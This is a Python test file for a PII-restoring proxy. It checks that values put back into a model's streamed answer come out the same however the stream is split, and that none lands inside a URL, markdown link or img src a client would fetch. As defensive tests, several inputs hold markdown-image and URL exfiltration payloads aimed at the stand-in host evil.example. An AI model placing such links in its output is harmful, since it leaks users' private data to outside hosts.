"""However an answer is cut, the client sees the same text: its own values, nobody else's, and none in a URL."""

import json
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tests.core.transform.requests import KEY, envelope, found
from tidegate.core.restore.restorer import Restorer, restore_text
from tidegate.core.transform.redact import redact

MAIL_TAG, NAME_TAG, LONG_TAG = (
    "\u27e6pii.email:k7f2q9m3\u27e7",
    "\u27e6pii.person:0a1b2c3d4e\u27e7",
    "\u27e6gov.us_ssn:zzzzzzzz\u27e7",
)
ORIGINALS = {MAIL_TAG: "jane@example.com", NAME_TAG: 'Jane "J" Doe\\', LONG_TAG: "457-55-" + "5462"}
FORGED = "\u27e6pii.email:k7f2q9m4\u27e7"
SECRET = "\u27e6secret.password:k7f2q9m4\u27e7"


def whole(text, **more):
    restorer = Restorer(ORIGINALS, **more)
    return restorer.feed(text) + restorer.close(), (restorer.restored, restorer.suppressed, restorer.left)


def in_pieces(pieces, **more):
    restorer = Restorer(ORIGINALS, **more)
    out = "".join([restorer.feed(piece) for piece in pieces]) + restorer.close()
    return out, (restorer.restored, restorer.suppressed, restorer.left)


PROSE = [
    ("nothing", "nothing", (0, 0, 0)),
    (f"to {MAIL_TAG}.", "to jane@example.com.", (1, 0, 0)),
    (f"{MAIL_TAG}{NAME_TAG}", 'jane@example.comJane "J" Doe\\', (2, 0, 0)),
    (f"{MAIL_TAG}s, <{MAIL_TAG}>", "jane@example.coms, <jane@example.com>", (2, 0, 0)),
    # forged, secret, unfinished
    (FORGED, FORGED, (0, 0, 1)),
    (SECRET, SECRET, (0, 1, 0)),
    (MAIL_TAG[:-1], MAIL_TAG[:-1], (0, 0, 0)),
    (f"\u27e6\u27e6{MAIL_TAG}\u27e7", "\u27e6\u27e6jane@example.com\u27e7", (1, 0, 0)),
    (f"{MAIL_TAG[:-3]}{MAIL_TAG}", f"{MAIL_TAG[:-3]}jane@example.com", (1, 0, 0)),
    ("\u27e6x\u27e7 is a bracket", "\u27e6x\u27e7 is a bracket", (0, 0, 0)),
    # garbled
    ("\u27e6PII.EMAIL: K7F2Q9M3\u27e7", "jane@example.com", (1, 0, 0)),
    ("\u27e6 pii.email : k7f2q9m3 \u27e7", "jane@example.com", (1, 0, 0)),
    ("\u27e6gov.us\\_ssn:zzzzzzzz\u27e7", "457-55-" + "5462", (1, 0, 0)),
    ("\\\u27e6pii.email:k7f2q9m3\\\u27e7", "jane@example.com", (1, 0, 0)),
    ("\\\\\u27e6pii.email:k7f2q9m3\u27e7", "\\\\jane@example.com", (1, 0, 0)),
    ("\\\\\\\u27e6pii.email:k7f2q9m3\u27e7", "\\\\jane@example.com", (1, 0, 0)),
    ("\\u27e6pii.email:k7f2q9m3\\u27e7", "jane@example.com", (1, 0, 0)),
    ("\\u27E6pii.email:k7f2q9m3\\u27E7", "jane@example.com", (1, 0, 0)),
    ("\\\\u27e6pii.email:k7f2q9m3\\u27e7", "\\\\u27e6pii.email:k7f2q9m3\\u27e7", (0, 0, 0)),
    ("\u27e6email:k7f2q9m3\u27e7", "jane@example.com", (1, 0, 0)),
    ("\u27e6pii.email:k7f2q9m\u27e7", "\u27e6pii.email:k7f2q9m\u27e7", (0, 0, 1)),
    ("\u27e6pii.email k7f2q9m3\u27e7", "\u27e6pii.email k7f2q9m3\u27e7", (0, 0, 0)),
    ("\u27e6pii.email:\nk7f2q9m3\u27e7", "\u27e6pii.email:\nk7f2q9m3\u27e7", (0, 0, 0)),
    # places that could carry a value out
    (f"![](https://evil.example/?q={MAIL_TAG})", f"![](https://evil.example/?q={MAIL_TAG})", (0, 1, 0)),
    (f"https://evil.example/{MAIL_TAG}/{NAME_TAG} {MAIL_TAG}", None, (1, 2, 0)),
    (f'<img src="x?{MAIL_TAG}"> {MAIL_TAG}', f'<img src="x?{MAIL_TAG}"> jane@example.com', (1, 1, 0)),
    (f"[{MAIL_TAG}]({MAIL_TAG})", f"[jane@example.com]({MAIL_TAG})", (1, 1, 0)),
    (
        "https://evil.example/\u27e6PII.EMAIL:K7F2Q9M3\u27e7",
        "https://evil.example/\u27e6PII.EMAIL:K7F2Q9M3\u27e7",
        (0, 1, 0),
    ),
]


@pytest.mark.parametrize(("text", "out", "counts"), PROSE)
def test_what_comes_back(text, out, counts):
    given_out, given_counts = whole(text)
    assert out is None or given_out == out
    assert given_counts == counts
    for size in (1, 2, 3, 5):
        pieces = [text[at : at + size] for at in range(0, len(text), size)]
        assert in_pieces(pieces) == (given_out, counts)


def test_a_restored_value_is_part_of_what_is_judged():
    originals = {MAIL_TAG: "https://evil.example/?q=", NAME_TAG: "Jane"}
    assert restore_text(f"{MAIL_TAG}{NAME_TAG}", originals) == f"https://evil.example/?q={NAME_TAG}"


def test_an_original_that_looks_like_a_tag_stays_what_it_is():
    assert restore_text(f"{MAIL_TAG} {NAME_TAG}", {MAIL_TAG: NAME_TAG, NAME_TAG: "Jane"}) == f"{NAME_TAG} Jane"
    half = {MAIL_TAG: NAME_TAG[:5], NAME_TAG: "Jane"}
    assert restore_text(MAIL_TAG + NAME_TAG[5:], half) == NAME_TAG


JSON_TEXTS = [
    (f'{{"to":"{MAIL_TAG}"}}', '{"to":"jane@example.com"}'),
    (f'{{"to":"{NAME_TAG}"}}', '{"to":"Jane \\"J\\" Doe\\\\"}'),
    ('{"to":"\\u27e6pii.email:k7f2q9m3\\u27e7"}', '{"to":"jane@example.com"}'),
    (f'{{"{MAIL_TAG}":["{NAME_TAG}"]}}', '{"jane@example.com":["Jane \\"J\\" Doe\\\\"]}'),
    (f'{{"to":"C:\\\\{MAIL_TAG}"}}', '{"to":"C:\\\\jane@example.com"}'),
    (f'{{"to":"\\{MAIL_TAG}"}}', '{"to":"jane@example.com"}'),
    (f'{{"url":"https:\\/\\/evil.example\\/{MAIL_TAG}"}}', f'{{"url":"https:\\/\\/evil.example\\/{MAIL_TAG}"}}'),
    (f'{{"url":"https://x.example/","to":"{MAIL_TAG}"}}', '{"url":"https://x.example/","to":"jane@example.com"}'),
]


@pytest.mark.parametrize(("text", "out"), JSON_TEXTS)
def test_arguments_get_their_values_escaped(text, out):
    assert whole(text, json_escape=True)[0] == out
    assert in_pieces(text, json_escape=True)[0] == out
    assert json.loads(out)


def test_what_leaves_the_house_stays_as_it_is_and_is_counted():
    text = f'{{"query":"who is {NAME_TAG}, {FORGED}"}}'
    assert whole(text, json_escape=True, suppress=True) == (text, (0, 1, 1))


def test_without_a_bracket_nothing_is_held_back():
    restorer = Restorer(ORIGINALS)
    for piece in ("a", " < [ {", "\u27e5", "", "word " * 1000):
        assert restorer.feed(piece) == piece


# -- every split --------------------------------------------------------------------------------------

fragments = st.one_of(
    st.sampled_from([MAIL_TAG, NAME_TAG, LONG_TAG, FORGED, SECRET]),
    st.builds(lambda tag, n: tag[:n], st.sampled_from([MAIL_TAG, NAME_TAG, LONG_TAG]), st.integers(0, len(MAIL_TAG))),
    st.sampled_from([MAIL_TAG, NAME_TAG]).map(lambda tag: tag.upper().replace(":", ": ")),
    st.sampled_from([MAIL_TAG, LONG_TAG]).map(lambda tag: json.dumps(tag)[1:-1]),
    st.sampled_from([MAIL_TAG, LONG_TAG]).map(lambda tag: re.sub(r"([^\w])", r"\\\1", tag)),
    st.sampled_from(["https://e.example/", "](", "](<", '<img src="', '"', "'", ">", ")", " ", "\n", "\\", "\\\\",
                     "\\u", "\\u27", "\\u27e6", "\\u27e7", "\u27e6", "\u27e7", ":", "{", "}", "a", "e.example/"]),
    st.text(max_size=6),
)  # fmt: skip
answers = st.lists(fragments, max_size=12).map("".join)


@st.composite
def cut(draw):
    text = draw(answers)
    cuts = sorted(draw(st.lists(st.integers(0, len(text)), max_size=20)))
    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]


def any_split_is_the_same(pieces, as_json, suppress):
    text = "".join(pieces)
    more = {"json_escape": as_json, "suppress": suppress}
    assert in_pieces(pieces, **more) == whole(text, **more)


split_cases = given(cut(), st.booleans(), st.booleans())


@split_cases
@example([f"https://e.example/{MAIL_TAG[:4]}", MAIL_TAG[4:]], False, False)
@example(["\\", "\u27e6pii.email:k7f2q9m3\u27e7"], False, False)
@example(["\\u27", "e6pii.email:k7f2q9m3\\u2", "7e7"], True, False)
def test_any_split_gives_the_same(pieces, as_json, suppress):
    any_split_is_the_same(pieces, as_json, suppress)
    any_split_is_the_same(list("".join(pieces)), as_json, suppress)


@pytest.mark.slow
@settings(max_examples=50_000, deadline=None)
@split_cases
def test_any_split_gives_the_same_fifty_thousand_times(pieces, as_json, suppress):
    any_split_is_the_same(pieces, as_json, suppress)


@given(cut(), st.booleans())
def test_no_more_is_held_back_than_a_tag_could_need(pieces, as_json):
    restorer = Restorer(ORIGINALS, json_escape=as_json)
    longest = max(map(len, ORIGINALS))
    for piece in pieces:
        restorer.feed(piece)
        assert len(restorer._held) <= longest + 18  # spaces and backslashes within, and brackets written as escapes
    restorer.close()


@given(
    st.lists(fragments, max_size=10)
    .map("".join)
    .filter(lambda text: "k7f2" not in text.lower() and "0a1b" not in text.lower() and "zzzz" not in text.lower()),
    st.booleans(),
)
def test_text_without_tags_passes_as_it_is(text, as_json):
    assert whole(text, json_escape=as_json)[0] == text


@given(answers, st.booleans())
def test_nothing_is_restored_by_guessing(text, as_json):
    """Without the codes that were issued, no text leads to a value."""
    text = re.sub("k7f2q9m3|0a1b2c3d4e|zzzzzzzz", "00000000", text, flags=re.IGNORECASE)
    out, (restored, _, _) = whole(text, json_escape=as_json)
    assert (out, restored) == (text, 0)


# -- what a client would fetch ------------------------------------------------------------------------

FETCHED = [
    re.compile(r'(?:https?:)?//[^\s<>"]*'),
    re.compile(r"\]\(\s*<(?:[^<>\n\\]|\\.)*>?"),
    re.compile(r"\]\(\s*[^\s)]*"),
    re.compile(r'\bsrc\s*=\s*"[^"]*', re.IGNORECASE),
    re.compile(r"\bsrc\s*=\s*'[^']*", re.IGNORECASE),
]
URLS = [
    "https://e.example/?q=",
    "![x](",
    "[x](<",
    "[x]( ",
    '<img alt="a" src="',
    "<img src='x ",
    "//e.example/",
    "](/x?",
]


@given(
    st.lists(st.one_of(st.sampled_from(URLS), fragments, st.sampled_from([MAIL_TAG, LONG_TAG])), max_size=14),
    st.randoms(),
)
def test_no_value_ever_stands_where_a_client_would_fetch(pieces, chance):
    text = "".join(pieces)
    for value in ORIGINALS.values():
        text = text.replace(value, "")
    cuts = sorted(chance.randrange(len(text) + 1) for _ in range(6))
    out, _ = in_pieces([text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)])
    for fetched in [match for pattern in FETCHED for match in pattern.findall(out)]:
        for value in ("jane@example.com", "457-55-" + "5462"):
            assert value not in fetched, (text, fetched)


# -- there and back -----------------------------------------------------------------------------------

VALUES = ["jane@example.com", "Jane Doe", "457-55-" + "5462", 'a "b" c\\d 7', "Jörg\nMüller 12", "\U0001f600 42!"]
WORDS = st.sampled_from(["please", "write to", "—", "\n", ", ", "é", "{", "\\ "])


@given(st.lists(st.one_of(WORDS, st.sampled_from(VALUES)), min_size=1, max_size=8).map(" ".join), st.integers(1, 7))
def test_an_answer_that_quotes_the_request_is_the_request(text, size):
    request = envelope(text)
    made = redact(request, [f for v in VALUES for f in found(request, "pii.person", v)], KEY, model="m")
    quoted = made.document["messages"][0]["content"]
    restorer = Restorer(made.originals)
    out = "".join(restorer.feed(quoted[at : at + size]) for at in range(0, len(quoted), size)) + restorer.close()
    assert out == text
    arguments = json.dumps({"q": quoted}, ensure_ascii=size % 2 == 0)
    assert json.loads(restore_text(arguments, made.originals, json_escape=True)) == {"q": text}


@given(st.sampled_from(VALUES))
def test_another_session_s_answer_restores_nothing(value):
    mine, theirs = (
        redact(envelope(value), found(envelope(value), "pii.person", value), key, model="m")
        for key in (b"a" * 32, b"b" * 32)
    )
    quoted = theirs.document["messages"][0]["content"]
    assert restore_text(quoted, mine.originals) == quoted
